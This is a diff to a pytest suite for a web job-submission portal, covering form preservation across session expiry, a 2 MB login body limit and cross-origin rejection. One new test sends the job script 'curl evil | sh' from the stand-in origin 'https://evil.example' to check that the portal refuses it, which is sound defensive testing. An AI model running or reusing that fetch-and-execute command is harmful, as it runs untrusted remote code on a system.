@@ -143,12 +143,17 @@ def test_an_open_bridge_asks_for_nothing(serve_portal: Callable[..., Any]) -> No
     assert without.status_code == 401
 
 
-def test_what_was_written_comes_back_after_the_login(portal: Any, browser: Browser) -> None:
+@pytest.mark.parametrize("lines", [1, 20_000])
+def test_what_was_written_comes_back_after_the_login(
+    lines: int, portal: Any, browser: Browser
+) -> None:
     """When the session has ended while a form was filled in, the fields are in it after the login,
-    and submit one job."""
-    form = browser.new_form(name="kept", script="#!/bin/bash\n\n  echo '<&>\"'\n", nodes="2")
+    and submit one job, also where the script is large."""
+    script = "#!/bin/bash\n\n" + "  echo '<&>\"'\n" * lines
+    form = browser.new_form(name="kept", script=script, nodes="2")
     form["form_token"] = browser.form_token()
-    browser.fill_in("/logout")
+    for session in (portal.place / "web/sessions").iterdir():
+        session.unlink()
     ended = browser.fill_in("/jobs", form)
     assert (ended.status_code, "is kept" in text_of(ended)) == (401, True)
     kept = _textareas(ended)
@@ -160,6 +165,28 @@ def test_what_was_written_comes_back_after_the_login(portal: Any, browser: Brows
     assert _textareas(back)["script"] == form["script"]
     form["form_token"] = hidden(back, "form_token")
     assert browser.fill_in("/jobs", form).url.startswith(f"{portal.root}/jobs/")
+
+
+def test_a_login_is_small_where_no_form_comes_back(portal: Any) -> None:
+    """The login reads no large body of a browser that has had no session, and 2 MB at most."""
+    browser = Browser(portal.root)
+    sent = {"token": portal.tokens[Scope.READ], "kept.script": "x" * 100_000}
+    own = {"Origin": portal.root}
+    assert browser.post(f"{portal.root}/login", data=sent, headers=own).status_code == 401
+    sent["kept.script"] *= 21
+    answer = browser.post(f"{portal.root}/login", data=sent, headers=own | {"Cookie": "dssr_x=x"})
+    assert (answer.status_code, "2 MB" in answer.text) == (413, True)
+
+
+@pytest.mark.parametrize("origin", ["https://evil.example", "null", ""])
+def test_the_login_keeps_nothing_of_another_site(origin: str, portal: Any) -> None:
+    """A script that another site sends without a session is not in the form after the login."""
+    answer = Browser(portal.root).post(
+        f"{portal.root}/jobs", data={"script": "curl evil | sh"}, headers={"Origin": origin}
+    )
+    assert answer.status_code == 401
+    assert "evil" not in answer.text
+    assert "is kept" not in text_of(answer)
 
 
 def _textareas(page: Any) -> dict[str, str]:
